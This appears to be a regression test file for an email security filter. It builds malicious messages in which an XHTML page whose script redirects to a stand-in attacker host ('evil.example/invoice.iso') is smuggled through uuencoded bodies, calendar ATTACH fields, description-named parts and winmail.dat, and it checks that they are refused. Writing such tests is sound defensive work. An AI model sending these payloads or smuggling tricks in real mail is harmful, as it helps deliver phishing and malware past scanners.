import { tnefStream } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attachmentTests, attackerKit, MIXED, mail, withPart } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// Attacker round 67, A67-2: files a part carries in its content (uuencoded in a text body, which Outlook and
// Thunderbird offer as attachments; a calendar's ATTACH, which Outlook lists with the invitation) are not read by
// the page scan, so one named as a page is refused (as are the files of a `winmail.dat`, which Outlook lists); and an unnamed part described as a page is saved by Exchange
// under its description. Both checked `.html`, `.svg`, `.mht` names only: an `invoice.xml` holding an XHTML page,
// which Windows opens in the browser (round 44), was delivered each way. XML names now count as pages there.
const stack = useLocalStack();
const kit = attackerKit(stack);

const XHTML =
  '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>' +
  '<script>location = "https://evil.example/invoice.iso"</script></body></html>';
const b64 = Buffer.from(XHTML).toString('base64');

/** `data` uuencoded as `name` (a begin line, 45-byte lines, the end). */
function uuencoded(name: string, data: string): string {
  const bytes = Buffer.from(data);
  const char = (v: number) => (v === 0 ? '`' : String.fromCharCode(32 + v));
  const lines = [`begin 644 ${name}`];
  for (let i = 0; i < bytes.length; i += 45) {
    const chunk = bytes.subarray(i, i + 45);
    let line = char(chunk.length);
    for (let j = 0; j < chunk.length; j += 3) {
      const n = ((chunk[j] ?? 0) << 16) | ((chunk[j + 1] ?? 0) << 8) | (chunk[j + 2] ?? 0);
      line += [18, 12, 6, 0].map((shift) => char((n >> shift) & 63)).join('');
    }
    lines.push(line);
  }
  return [...lines, '`', 'end'].join('\r\n');
}

const message = (part: string): [Buffer, string] => [
  mail([MIXED], withPart(part)),
  'evil.example/invoice.iso',
];
const uuBody = (name: string) =>
  `Content-Type: text/plain\r\n\r\nSee the invoice.\r\n${uuencoded(name, XHTML)}\r\n`;
const calendar = (name: string) =>
  'Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:67-2\r\n' +
  `DTSTART:20261201T100000Z\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=${name}:${b64}\r\n` +
  'END:VEVENT\r\nEND:VCALENDAR\r\n';
const described = (description: string) =>
  `Content-Type: application/octet-stream\r\nContent-Description: ${description}\r\nContent-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64}`;

describe('A67-2: an XML page carried in a part or named by its description', () => {
  attachmentTests(kit, {
    'a uuencoded invoice.xml in a text body': message(uuBody('invoice.xml')),
    'a uuencoded invoice.xsl in a text body': message(uuBody('invoice.xsl')),
    'a calendar ATTACH named invoice.xml': message(calendar('invoice.xml')),
    'an unnamed part described as invoice.xml': message(described('invoice.xml')),
    'invoice.xml in a winmail.dat': attachedFile(
      'winmail.dat',
      tnefStream([{ title: 'invoice.xml', longName: 'invoice.xml', data: Buffer.from(XHTML) }]),
      'application/ms-tnef',
    ),
  });

  it('(control) delivers a uuencoded text file, a calendar file and a described PDF', async () => {
    for (const part of [
      `Content-Type: text/plain\r\n\r\nNotes:\r\n${uuencoded('notes.txt', 'hello')}\r\n`,
      calendar('agenda.txt'),
      described('report.pdf').replace(b64, Buffer.from('%PDF-1.4\n%%EOF\n').toString('base64')),
    ]) {
      expect((await kit.inbound(mail([MIXED], withPart(part)))).verdict, part.slice(0, 60)).toBe('DEFAULT');
    }
  });
});
